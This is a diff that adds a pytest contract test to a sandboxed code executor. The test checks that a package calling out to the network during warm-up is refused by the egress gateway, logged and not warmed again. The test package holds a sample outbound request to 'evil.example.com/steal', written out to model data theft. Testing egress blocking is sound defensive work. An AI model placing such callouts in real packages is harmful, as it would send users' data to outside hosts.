@@ -17,7 +17,11 @@ from typing import Any
 import pytest
 
 from services.executor.adapters.bubblewrap import BubblewrapSandbox
+from services.executor.attempts.warming import Warming
+from services.executor.egress.gateway import EgressGateway
+from services.executor.egress.model import Exchange
 from services.executor.ports import Order, RunLimits, shape
+from shared.clock import FakeClock
 from tests.contract.sandbox_runs import Bench, RecordingSink
 from tests.needs import unavailable
 
@@ -236,6 +240,32 @@ def test_the_run_gets_the_same_socket_when_it_was_watched_while_waiting(warm: Wa
     assert met[0][1] == met[1][1]
 
 
+def test_a_package_that_calls_out_while_waiting_is_refused_recorded_and_not_warmed_again(warm: Warm) -> None:
+    package = (
+        "import urllib.request\n"
+        "try: urllib.request.urlopen('http://evil.example.com/steal')\n"
+        "except OSError as error: TOLD = str(error)\n"
+    )
+    order = warm.order("import lodge\nprint(lodge.TOLD)", package, egress=warm.keep)
+    gateway, clock = EgressGateway(), FakeClock()
+    warming = Warming(warm.sandbox, gateway, clock)
+    met: list[Exchange] = []
+
+    for _ in range(2):
+        warming.ran(order, "agt_1")
+        clock.advance(seconds=3)
+    until(lambda: bool(met.extend(warming.contacts("key")) or met))
+    until(lambda: not warm.sandbox.waiting())
+    warming.ran(order, "agt_1")
+    warming.close()
+    gateway.stop()
+
+    assert {(one.host, one.verdict, one.reason) for one in met} == {
+        ("evil.example.com", "refused", "not_bound")
+    }
+    assert warm.sandbox.waiting() == ()
+
+
 def test_what_packages_printed_ahead_is_in_the_log_once_and_after_the_first_line(warm: Warm) -> None:
     order = warm.order("import lodge\nprint('mine')", "print('Hello from lodge')\n")
 
@@ -396,6 +426,7 @@ def test_what_waits_dies_with_its_launcher_and_the_next_run_works_when_it_is_kil
 _EXECUTOR = """
 import sys, time, pathlib
 from services.executor.adapters.bubblewrap import BubblewrapSandbox
+from shared.clock import FakeClock
 from tests.contract.sandbox_runs import Bench
 from tests.contract.test_sandbox_warm import Warm
 folder = pathlib.Path(sys.argv[1])
